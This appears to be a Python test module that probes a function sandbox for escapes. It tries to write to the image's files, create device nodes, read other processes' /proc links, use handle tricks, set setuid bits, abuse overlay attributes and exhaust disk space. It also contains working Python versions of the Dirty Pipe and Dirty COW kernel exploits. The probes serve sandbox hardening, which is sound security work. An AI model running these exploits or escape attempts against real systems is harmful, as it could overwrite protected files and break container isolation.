"""Files that are not the sandbox's own, and the ways to come by one."""
import ctypes
import fcntl
import os
import shutil
import stat
import subprocess
import threading

import attempts
from attempts import LIBC, attempt, call, create, entries, word_of

AT_FDCWD = -100


def read(paths):
    return {path: attempts.read(path) for path in paths}


def write(paths, text="1"):
    return {path: attempts.write(path, text) for path in paths}


def list_folders(paths):
    return {path: entries(path) for path in paths}


def make(folders):
    return {folder: create(folder + "/brood-hostile") for folder in folders}


def open_devices(paths):
    return {path: attempt(lambda: os.close(os.open(path, os.O_RDWR))) for path in paths}


def make_devices(nodes):
    """Device nodes, each [PATH, KIND, MAJOR, MINOR]; one that could be made is opened too."""
    outcomes = {}
    for path, kind, major, minor in nodes:
        mode = {"b": stat.S_IFBLK, "c": stat.S_IFCHR}[kind] | 0o666
        outcomes["make " + path] = attempt(os.mknod, path, mode, os.makedev(major, minor))
        if outcomes["make " + path] == "ok":
            outcomes["open " + path] = attempt(os.open, path, os.O_RDONLY)
    return outcomes


def change(path):
    """What could be done to a file of the function's, or of the image's."""
    outcomes = {
        "write": attempts.write(path, "#"),
        "truncate": attempt(os.truncate, path, 0),
        "chmod": attempt(os.chmod, path, 0o4777),
        "remove": attempt(os.unlink, path),
        "rename": attempt(os.rename, path, path + ".old"),
        "map": attempt(map_writable, path),
    }
    outcomes["through /proc/self/fd"] = attempt(reopen_for_writing, path)
    return outcomes


def reopen_for_writing(path):
    fd = os.open(path, os.O_RDONLY)
    try:
        os.close(os.open("/proc/self/fd/%d" % fd, os.O_WRONLY))
    finally:
        os.close(fd)


def map_writable(path):
    import mmap

    fd = os.open(path, os.O_RDWR)
    try:
        mmap.mmap(fd, 4096, mmap.MAP_SHARED, mmap.PROT_WRITE).close()
    finally:
        os.close(fd)


def descriptors():
    """Every descriptor, and every number up to the limit: no directory, nothing of the host's."""
    kinds = {0: "null", 1: "log", 2: "log", 3: "conn"}
    outcomes = {}
    for fd in range(1024):
        try:
            status = os.fstat(fd)
        except OSError:
            continue
        kind = kinds.get(fd, "more")
        if stat.S_ISDIR(status.st_mode):
            kind = "directory"
        outcomes[str(fd)] = kind
    return outcomes


def through_descriptors(names):
    """Paths through /proc/self: each is opened, and what lies above it listed."""
    return {name: entries("/proc/self/%s/.." % name) for name in names}


def magic_links(links):
    """/proc/PID/LINK of every process that could be one, but for this one's own."""
    outcomes = {}
    own = os.getpid()
    for pid in range(1, 400):
        if pid == own:
            continue
        for link in links:
            outcome = attempt(os.readlink, "/proc/%d/%s" % (pid, link))
            if pid == 1 or outcome != "ENOENT":
                outcomes["/proc/%d/%s" % (pid, link)] = outcome
    return outcomes


def walk_up(folder):
    """As many `..` as there are: it ends at the sandbox's own root."""
    fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(64):
        upper = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = upper
    same = os.path.samestat(os.fstat(fd), os.stat("/"))
    canary = attempt(os.stat, "../../../../" + "var/lib/brood/images")
    return {"top": "own root" if same else "another", "image store": canary}


def handles(path):
    """name_to_handle_at, and the handle of the host's root as the shocker made it up."""
    handle = ctypes.create_string_buffer(128 + 8)
    ctypes.memmove(handle, (128).to_bytes(4, "little"), 4)
    mount = ctypes.c_int(0)
    outcome, _ = call("name_to_handle_at", AT_FDCWD, path, handle,
                      ctypes.addressof(mount), 0)
    return {"name_to_handle_at": outcome}


def set_user_ids(source):
    """A copy with the set-user-id bit: it may be had, and gives nobody another identity."""
    copy = "/tmp/copy"
    shutil.copy(source, copy)
    chmod = attempt(os.chmod, copy, 0o6755)
    said = subprocess.run([copy, "-u"], capture_output=True, text=True, check=True).stdout
    return {"chmod": chmod, "uid": said.strip()}


def programs_with_powers():
    """Programs of the image with a set-user-id bit or file capabilities: whether those count."""
    found = {}
    for folder in ("/usr/bin", "/usr/sbin", "/usr/lib"):
        for top, _, names in os.walk(folder):
            for name in names:
                path = os.path.join(top, name)
                status = os.lstat(path)
                if stat.S_ISREG(status.st_mode) and (status.st_mode & 0o6000 or has_powers(path)):
                    counts = not os.statvfs(path).f_flag & os.ST_NOSUID
                    found[path] = "counts" if counts else "nosuid"
    return found or {"programs": "none"}


def has_powers(path):
    return attempt(os.getxattr, path, "security.capability") == "ok"


def overlay_tricks():
    """What an overlay's layers could be told through attributes, devices and links."""
    name = "/tmp/layer"
    os.makedirs(name, exist_ok=True)
    value = b"y"
    return {
        "trusted.overlay.opaque": call("setxattr", name, "trusted.overlay.opaque", value, 1, 0)[0],
        "user.overlay.redirect": call("setxattr", "/usr", "user.overlay.redirect", b"/etc", 4, 0)[0],
        "security.capability": call("setxattr", name, "security.capability",
                                    bytes((1, 0, 0, 2)) + bytes(16), 20, 0)[0],
        "whiteout": attempt(os.mknod, "/tmp/layer/gone", stat.S_IFCHR, 0),
        "link to the image": attempt(os.link, "/usr/bin/env", "/tmp/layer/env"),
        "whiteout of the image": attempt(os.unlink, "/usr/bin/env"),
        "exchange": attempt(os.rename, "/usr", "/tmp/usr"),
    }


def dirty_pipe(path):
    """CVE-2022-0847: splice a page of a read-only file into a pipe whose buffers may be merged,
    then write into the pipe. The file has to read as before."""
    with open(path, "rb") as file:
        before = file.read(4096)
    reader, writer = os.pipe()
    size = fcntl.fcntl(writer, 1032)  # F_GETPIPE_SZ
    os.write(writer, b"\0" * size)
    os.read(reader, size)
    fd = os.open(path, os.O_RDONLY)
    spliced = LIBC.splice(fd, ctypes.byref(ctypes.c_longlong(0)), writer, None, 1, 0)
    if spliced != 1:
        raise RuntimeError("splice moved %d bytes: %s" % (spliced, word_of(ctypes.get_errno())))
    os.write(writer, b"HOSTILE")
    with open(path, "rb") as file:
        after = file.read(4096)
    return {"page": "unchanged" if before == after else "changed"}


def dirty_cow(path, rounds=400):
    """CVE-2016-5195: a private mapping of a read-only file, thrown away by one thread while another
    writes through /proc/self/mem."""
    import mmap

    with open(path, "rb") as file:
        before = file.read(64)
    fd = os.open(path, os.O_RDONLY)
    LIBC.mmap.restype = ctypes.c_void_p
    address = LIBC.mmap(None, ctypes.c_size_t(4096), mmap.PROT_READ, mmap.MAP_PRIVATE, fd,
                        ctypes.c_long(0))
    memory = os.open("/proc/self/mem", os.O_RDWR)
    writes = []
    done = threading.Event()

    def throw_away():
        while not done.is_set():
            LIBC.madvise(ctypes.c_void_p(address), ctypes.c_size_t(4096), 4)

    thread = threading.Thread(target=throw_away)
    thread.start()
    for _ in range(rounds):
        writes.append(attempt(os.pwrite, memory, b"HOSTILE", address))
    done.set()
    thread.join()
    if not writes:
        raise RuntimeError("nothing was written")
    with open(path, "rb") as file:
        after = file.read(64)
    return {"file": "unchanged" if before == after else "changed"}


def swap_mount_points(rounds=300):
    """Renames and links at every place that is mounted on: none may be moved away or replaced."""
    outcomes = {}
    for place in ("/function", "/proc", "/dev", "/dev/shm", "/tmp"):
        os.makedirs("/tmp/swap", exist_ok=True)
        seen = {attempt(os.rename, place, "/tmp/swap/away") for _ in range(rounds)}
        outcomes["rename " + place] = seen.pop() if len(seen) == 1 else "various"
        outcomes["link " + place] = attempt(os.symlink, "/proc/sys/kernel", place)
    return outcomes


def mounts(words):
    """Which of these words the sandbox's own account of its mounts has."""
    with open("/proc/self/mountinfo") as file:
        text = file.read()
    return {word: "there" if word in text else "absent" for word in words}


def fill(folder, limit):
    """Writes until it is refused, or until `limit` bytes are written: that would be no bound."""
    piece = b"\0" * (1 << 20)
    written = 0
    fd = os.open(folder + "/filler", os.O_WRONLY | os.O_CREAT, 0o600)
    try:
        while written < limit:
            written += os.write(fd, piece)
        return {folder: "no bound"}
    except OSError as error:
        return {folder: word_of(error.errno)}
    finally:
        os.close(fd)


def fill_with_files(folder, limit):
    made = 0
    try:
        while made < limit:
            os.close(os.open("%s/%d" % (folder, made), os.O_WRONLY | os.O_CREAT))
            made += 1
        return {folder: "no bound"}
    except OSError as error:
        return {folder: word_of(error.errno)}


def fill_all(limit):
    """Every place that can be written to shares one bound: what is full in one is full in all."""
    first = fill("/tmp", limit)
    return {**first, **fill("/dev/shm", limit)}


def fill_beyond_names(limit):
    """Space that no name shows: files that are unlinked while they are open."""
    held = []
    written = 0
    try:
        while written < limit:
            fd = os.open("/tmp/held", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
            held.append(fd)
            os.unlink("/tmp/held")
            written += os.write(fd, b"\0" * (4 << 20))
        return {"unlinked": "no bound"}
    except OSError as error:
        return {"unlinked": word_of(error.errno)}


def sparse(folder):
    """A size is not space, and costs nothing: it may be had."""
    path = folder + "/sparse"
    fd = os.open(path, os.O_WRONLY | os.O_CREAT, 0o600)
    os.ftruncate(fd, 1 << 40)
    blocks = os.fstat(fd).st_blocks
    allocated = attempt(os.posix_fallocate, fd, 0, 1 << 40)
    return {"blocks": str(blocks), "fallocate": allocated}


def mounted():
    """The type of each mount, by where it is; the last one where there are several."""
    with open("/proc/self/mountinfo") as file:
        lines = [line.split(" - ") for line in file]
    return {fields.split()[4]: rest.split()[0] for fields, rest in lines}
